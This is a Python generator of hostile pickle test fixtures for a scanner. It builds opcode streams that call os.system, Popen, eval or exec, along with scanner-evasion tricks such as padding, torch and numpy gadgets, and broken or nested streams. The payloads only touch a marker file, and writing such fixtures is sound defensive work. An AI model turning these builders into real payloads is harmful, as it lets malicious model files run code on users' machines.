"""Generator of hostile pickle fixtures, each named after the technique it pins.

Every payload is harmless: when a pickle is actually loaded it would only create the marker
file it is given. Tests assert that scanning never creates it. The streams are built opcode by
opcode so that each technique is exactly what its name says.
"""

from __future__ import annotations

import pickle
import struct


def _str(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of a string."""
    data = s.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _global0(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def touch(marker: str) -> str:
    return f"touch {marker}"


class _Reduce:
    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def reduce_os_system(marker: str, protocol: int) -> bytes:
    """The classic: __reduce__ returning (os.system, (cmd,)), pickled by Python itself."""
    import os

    return pickle.dumps(_Reduce(os.system, (touch(marker),)), protocol=protocol)


def inst_opcode(marker: str) -> bytes:
    """Protocol 0 INST: MARK, args, `i module\\nname\\n` calls the class/function."""
    return b"(S'" + touch(marker).encode() + b"'\nios\nsystem\n."


def obj_opcode(marker: str) -> bytes:
    """Protocol 1 OBJ: MARK, callable, args, `o`."""
    return b"(" + _global0("os", "system") + b"S'" + touch(marker).encode() + b"'\no."


def newobj_popen(marker: str) -> bytes:
    """NEWOBJ on subprocess.Popen: cls.__new__ only, but the import alone is critical."""
    return (b"\x80\x02" + _global0("subprocess", "Popen") + b"(" + _str("sh") + _str("-c")
            + _str(touch(marker)) + b"l\x85\x81.")


def stack_global_memo(marker: str) -> bytes:
    """Protocol 4 STACK_GLOBAL whose module and name strings come through MEMOIZE/BINGET."""
    return (b"\x80\x04" + _str("os") + b"\x94" + _str("system") + b"\x94"
            + b"h\x00h\x01\x93" + _str(touch(marker)) + b"\x85R.")


def stack_global_dynamic(marker: str) -> bytes:
    """STACK_GLOBAL fed by a call result: the module name is computed at load time."""
    return (b"\x80\x04" + _global0("builtins", "str") + _str("os") + b"\x85R"
            + _str("system") + b"\x93" + _str(touch(marker)) + b"\x85R.")


def getattr_gadget(marker: str) -> bytes:
    """builtins.getattr(builtins.__import__('os'), 'system')(cmd): call of a call result."""
    return (b"\x80\x02" + _global0("builtins", "getattr")
            + _global0("builtins", "__import__") + _str("os") + b"\x85R"
            + _str("system") + b"\x86R" + _str(touch(marker)) + b"\x85R.")


def dotted_traversal(marker: str) -> bytes:
    """Protocol 4 dotted name: a benign-looking module, then attributes down to os.system."""
    return (b"\x80\x04" + _str("torch") + _str("serialization.os.system") + b"\x93"
            + _str(touch(marker)) + b"\x85R.")


def py2_builtin_eval(marker: str) -> bytes:
    """Python 2 spelling `__builtin__.eval`, which Python 3's unpickler maps to builtins."""
    code = f"__import__('os').system({touch(marker)!r})"
    return _global0("__builtin__", "eval") + b"(S'" + code.encode() + b"'\ntR."


def ufunc_resolver(marker: str) -> bytes:
    """numpy.core._ufunc_reconstruct('os', 'system') resolves to os.system, then it is called."""
    return (b"\x80\x02" + _global0("numpy.core", "_ufunc_reconstruct") + _str("os")
            + _str("system") + b"\x86R" + _str(touch(marker)) + b"\x85R.")


def extension_code(marker: str) -> bytes:
    """EXT1: imports whatever copyreg's extension registry holds under code 1."""
    return b"\x80\x02\x82\x01" + _str(touch(marker)) + b"\x85R."


def build_on_global(marker: str) -> bytes:
    """BUILD applied to an imported object itself: overwrites process-wide attributes."""
    return (b"\x80\x02" + _global0("collections", "OrderedDict") + b"}"
            + _str("__repr__") + _str(marker) + b"sb.")


def nullifai_broken(marker: str) -> bytes:
    """A call, then a broken stream: Python runs the call before failing (nullifAI)."""
    return (b"\x80\x02" + _global0("os", "system") + _str(touch(marker)) + b"\x85R"
            + b"\xff\xfe garbage")


def trailing_second_pickle(marker: str) -> bytes:
    """A benign pickle, then a malicious one: a loader that loads twice runs the second."""
    return pickle.dumps({"weights": [1, 2, 3]}, protocol=2) + reduce_os_system(marker, 2)


def partial_gadget(marker: str) -> bytes:
    """functools.partial(os.system, cmd)(): the call goes through a chaining gadget."""
    return (b"\x80\x02" + _global0("functools", "partial") + _global0("os", "system")
            + _str(touch(marker)) + b"\x86R)R.")


def nested_load_from_bytes(marker: str) -> bytes:
    """torch.storage._load_from_bytes(b): torch.load of a pickle carried inside as bytes."""
    inner = reduce_os_system(marker, 2)
    return (b"\x80\x02" + _global0("torch.storage", "_load_from_bytes") + b"C"
            + bytes([len(inner)]) + inner + b"\x85R.") if len(inner) < 256 else (
        b"\x80\x02" + _global0("torch.storage", "_load_from_bytes") + b"B"
        + struct.pack("<I", len(inner)) + inner + b"\x85R.")


def runstring_bypass(marker: str) -> bytes:
    """numpy.testing._private.utils.runstring: an exec() hidden in NumPy (a picklescan bypass)."""
    return (b"\x80\x02" + _global0("numpy.testing._private.utils", "runstring")
            + _str(f"import os; os.system({touch(marker)!r})") + b"}\x86R.")


def padded_prefix(marker: str) -> bytes:
    """Thousands of harmless opcodes first, so the payload sits past any sniffing window."""
    return b"\x80\x02" + b"N0" * 5000 + reduce_os_system(marker, 2)[2:]


TECHNIQUES = {
    "padded-prefix": (padded_prefix, "PICKLE-DANGEROUS-GLOBAL"),
    "inst-opcode": (inst_opcode, "PICKLE-DANGEROUS-GLOBAL"),
    "obj-opcode": (obj_opcode, "PICKLE-DANGEROUS-GLOBAL"),
    "newobj-popen": (newobj_popen, "PICKLE-DANGEROUS-GLOBAL"),
    "stack-global-memo": (stack_global_memo, "PICKLE-DANGEROUS-GLOBAL"),
    "stack-global-dynamic": (stack_global_dynamic, "PICKLE-DYNAMIC-IMPORT"),
    "getattr-gadget": (getattr_gadget, "PICKLE-DANGEROUS-GLOBAL"),
    "dotted-traversal": (dotted_traversal, "PICKLE-DANGEROUS-GLOBAL"),
    "py2-builtin-eval": (py2_builtin_eval, "PICKLE-DANGEROUS-GLOBAL"),
    "ufunc-resolver": (ufunc_resolver, "PICKLE-DANGEROUS-GLOBAL"),
    "extension-code": (extension_code, "PICKLE-EXTENSION-CODE"),
    "build-on-global": (build_on_global, "PICKLE-GLOBAL-MUTATION"),
    "nullifai-broken-stream": (nullifai_broken, "PICKLE-DANGEROUS-GLOBAL"),
    "trailing-second-pickle": (trailing_second_pickle, "PICKLE-DANGEROUS-GLOBAL"),
    "functools-partial": (partial_gadget, "PICKLE-DANGEROUS-GLOBAL"),
    "nested-load-from-bytes": (nested_load_from_bytes, "PICKLE-DANGEROUS-GLOBAL"),
    "numpy-runstring": (runstring_bypass, "PICKLE-DANGEROUS-GLOBAL"),
}
